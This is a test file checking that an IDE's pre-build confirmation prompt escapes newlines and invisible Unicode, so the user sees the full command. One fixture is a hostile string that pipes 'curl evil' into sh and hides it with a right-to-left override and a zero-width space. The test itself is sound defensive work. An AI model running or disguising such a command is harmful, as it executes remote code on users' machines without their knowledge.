import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { buildQuestion } from '../../../../src/ide/projects/build-question';

describe('The question before a build', () => {
  it('has the command, its folder, and the guard', () => {
    const { message, command, detail } = buildQuestion({ command: ['make', 'a guard'], cwd: '/w' }, 'g');
    assert.equal(message, 'Allow Guard Lab to build g with this command?');
    assert.equal(command, 'make "a guard"');
    assert.match(detail, /^make "a guard"\n\nIt runs in \/w with your rights\./);
  });

  it('hides nothing of what would run', () => {
    const hostile = 'make\n\n\n\u202e; curl evil\u200b | sh';
    const { message, command, detail } = buildQuestion({ command: hostile, cwd: '/w\u202e' }, 'g\n\u2028');
    assert.equal(command, 'make\\u000a\\u000a\\u000a\\u202e; curl evil\\u200b | sh');
    assert.match(detail, /^make\\u000a.* \| sh\n\nIt runs in \/w\\u202e with/);
    assert.match(message, /build g\\u000a\\u2028 with/);
  });
});
